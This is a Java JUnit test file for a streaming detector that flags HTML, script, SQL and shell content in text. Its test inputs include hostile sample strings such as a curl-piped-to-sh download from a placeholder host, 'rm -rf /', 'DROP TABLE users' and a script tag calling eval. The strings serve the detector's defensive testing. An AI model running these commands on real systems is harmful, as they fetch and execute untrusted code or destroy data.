package io.sluice.flow;

import static org.assertj.core.api.Assertions.assertThat;

import io.sluice.flow.ActiveContent.Kind;
import java.util.List;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** Text that does something where it is carried out. */
class ActiveContentTest {
  private static final Set<Kind> ALL = Set.of(Kind.values());

  private static List<String> found(Set<Kind> wanted, String text) {
    var active = new ActiveContent(wanted);
    active.feed(text);
    return active.found();
  }

  @Test
  void each_kind_is_told_by_what_marks_it() {
    assertThat(found(ALL, "Put <IFRAME src=x> there")).containsExactly("html");
    assertThat(found(ALL, "set document.cookie to nothing")).containsExactly("script");
    assertThat(found(ALL, "DROP\n\tTABLE users;")).containsExactly("sql");
    assertThat(found(ALL, "curl -s https://x.example/a |  sh")).containsExactly("shell");
    assertThat(found(ALL, "A table of forms; do select one, or remove it.")).isEmpty();
  }

  @Test
  void only_what_the_application_does_with_answers_is_told() {
    String all = "<script>eval(1)</script> rm -rf / ; drop table x";
    assertThat(found(ALL, all)).containsExactly("html", "script", "sql", "shell");
    assertThat(found(Set.of(Kind.SQL), all)).containsExactly("sql");
    assertThat(found(Set.of(), all)).isEmpty();
  }

  @Test
  void it_is_found_however_the_text_comes() {
    String text = "say hello, then <script src=a.js></script> and delete   from t where 1; bye";
    for (int seed = 0; seed < 500; seed++) {
      var random = new Random(seed);
      var active = new ActiveContent(ALL);
      for (int at = 0; at < text.length(); ) {
        int next = Math.min(text.length(), at + 1 + random.nextInt(9));
        active.feed(text.substring(at, next));
        at = next;
      }
      assertThat(active.found()).as("seed %d", seed).containsExactly("html", "sql");
    }
  }
}
